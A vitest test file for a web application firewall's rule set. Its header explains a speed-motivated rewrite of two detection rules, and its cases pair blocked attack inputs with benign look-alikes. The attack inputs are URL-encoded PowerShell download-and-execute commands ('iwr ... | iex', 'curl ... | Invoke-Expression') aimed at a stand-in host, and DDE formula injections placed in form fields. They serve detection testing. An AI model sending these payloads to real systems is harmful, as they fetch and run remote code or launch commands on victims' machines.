/**
 * Rev 2026-12-11s (sp30, session 30, issue 14 speed): two rules whose prefilter trigger was a lone character any
 * request may hold, rewritten to match the same strings with a trigger glued to its neighbour. 9000318 needed a
 * `|` or `%7c` (a pipe before `iex`, with any blanks between): a candidate on 10.6 % of the generated benign
 * requests (seed 4242, scale 0.05), a Markdown table or a shell pipeline in a post; `P W* iex` is written
 * `P iex | P W* W iex`, so the trigger is the pipe glued to `iex` or a blank glued to it (0.0 %). 9001357 needed a
 * `|` or `dde` (in `hidden`, `addEventListener`, session ids): the quote before `!` and the sign before `DDE` are
 * written the same way (1.0 %). Each still fires on its attack in every spelling the old pattern took, blanks
 * between the parts included, and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9000318, 'block', 'a web request piped to iex with no blank', json('{"c":"powershell -c \\"iwr https://x.test/a.ps1 -useb|iex\\""}'), json('{"c":"iwr https://example.com/a.json -useb | ConvertFrom-Json"}')],
  [9000318, 'block', 'a web request piped to iex after blanks', q('cmd=irm+https%3A%2F%2Fx.test%2Fa.ps1+%7C++iex'), q('q=irm+https%3A%2F%2Fexample.com%2Fapi+%7C+select+name')],
  [9000318, 'block', 'a download piped to Invoke-Expression after ${IFS}', form('c=curl%20http%3A%2F%2Fx.test%2Fs%7C%24%7BIFS%7DInvoke-Expression'), form('note=curl+http%3A%2F%2Fexample.com%2Fs+%7C+jq+.name')],
  [9001357, 'block', 'a DDE formula with a blank before the sheet reference', form('company=%3Dcmd%7C%27+%2FC+calc%27+%21A0'), form('company=%3Dcmd%7C%27+%2FC+calc%27+is+not+a+formula')],
  [9001357, 'block', 'a DDE() call with a blank after the sign', q('title=%3D+DDE(%22cmd%22%3B%22%2FC+calc%22%3B%22!A0%22)'), q('title=%3D+the+DDE+team')],
];

describe('rules rewritten for a glued trigger (rev 2026-12-11s)', () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
